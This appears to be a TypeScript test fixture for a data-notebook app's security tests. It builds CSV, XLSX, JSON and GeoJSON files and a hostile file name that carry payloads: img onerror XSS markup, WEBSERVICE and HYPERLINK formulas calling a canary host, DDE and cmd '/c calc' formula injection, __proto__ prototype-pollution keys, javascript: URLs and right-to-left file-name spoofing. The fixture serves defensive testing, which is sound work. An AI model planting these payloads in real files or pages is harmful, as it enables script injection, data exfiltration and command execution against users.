import { xlsxOf } from '../../../support/spreadsheetPackage.ts';
import type { Payload } from '../payload.ts';
import { act, writtenInPage } from './shownMarkup.ts';

/** A file does not know the canary's door, and asks for a name that nobody has. */
const image = (id: string) => `<img src="http://${id}.kanarie.test/" onerror="__executed=1">`;

/** A file whose texts are markup, shown by a cell that reads all of it under the name that the file gives it. */
const file = (
	id: string,
	channel: string,
	name: string,
	content: string | (() => Promise<Uint8Array>),
	table = id.replaceAll('-', '_')
): Payload => ({
	id,
	channel,
	realm: 'extract',
	cells: () => `\`\`\`sql ${id.replaceAll('-', '_')}_shown\nSELECT * FROM ${table}\n\`\`\`\n`,
	control: writtenInPage((at) => `<img src=data:x onerror="${act(at)}">`),
	extract: {
		name,
		bytes: typeof content === 'string' ? () => Promise.resolve(new TextEncoder().encode(content)) : content
	}
});

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

const inXml = (text: string) => text.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`);

/** Cells of a workbook: texts, or formulas with the value that was last seen of them. */
const words = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${inXml(text)}</t></is></c>`;
const formula = (at: string, code: string, seen: string) =>
	`<c r="${at}" t="str"><f>${inXml(code)}</f><v>${inXml(seen)}</v></c>`;

/** Markup and formulas in headers and cells. */
async function workbook(): Promise<Uint8Array> {
	const hostile = image('ex-xlsx');
	const Ark1 = [
		`<row r="1">${words('A1', 'nr')}${words('B1', hostile)}${formula('C1', 'WEBSERVICE("http://ex-xlsx.kanarie.test/")', '__proto__')}</row>`,
		`<row r="2"><c r="A2"><v>1</v></c>${words('B2', hostile)}${formula('C2', 'HYPERLINK("http://ex-xlsx.kanarie.test/"&A2)', hostile)}</row>`,
		`<row r="3"><c r="A3"><v>2</v></c>${words('B3', '=cmd|"/c calc"!A1')}${formula('C3', 'DDE("cmd","/c calc")', 'javascript:__executed=1')}</row>`
	].join('');
	return new Uint8Array(await (await xlsxOf({ sheets: { Ark1 } })).arrayBuffer());
}

/** What files hold, and what they are called. */
export const extract: readonly Payload[] = [
	file(
		'ex-csv',
		'CSV',
		'ex_csv.csv',
		[
			['nr', image('ex-csv'), '__proto__', 'constructor'],
			[
				'1',
				image('ex-csv'),
				`=HYPERLINK("http://ex-csv.kanarie.test/"&A1)`,
				`=WEBSERVICE("http://ex-csv.kanarie.test/")`
			],
			['2', `[x](http://ex-csv.kanarie.test/)`, '\u202egpj.exe', 'javascript:__executed=1']
		]
			.map((row) => row.map(quoted).join(';'))
			.join('\r\n')
	),
	file('ex-xlsx', 'XLSX', 'ex_xlsx.xlsx', workbook),
	file(
		'ex-name',
		'file name',
		'<img src=x onerror=__executed=1> \u202Egpj.csv',
		'nr;x\r\n1;a\r\n2;b\r\n',
		'img_src_x_onerror_executed_1_gpj'
	),
	file(
		'ex-json',
		'JSON',
		'ex_json.json',
		`[{"nr":1,"__proto__":{"executed":1},"constructor":"x",${JSON.stringify(image('ex-json'))}:${JSON.stringify(image('ex-json'))}},{"nr":2}]`
	),
	file(
		'ex-geojson',
		'GeoJSON',
		'ex_geojson.geojson',
		JSON.stringify({
			type: 'FeatureCollection',
			features: [1, 2].map((nr) => ({
				type: 'Feature',
				properties: { nr, href: image('ex-geojson') },
				geometry: { type: 'Point', coordinates: [nr, 55] }
			}))
		})
	)
];
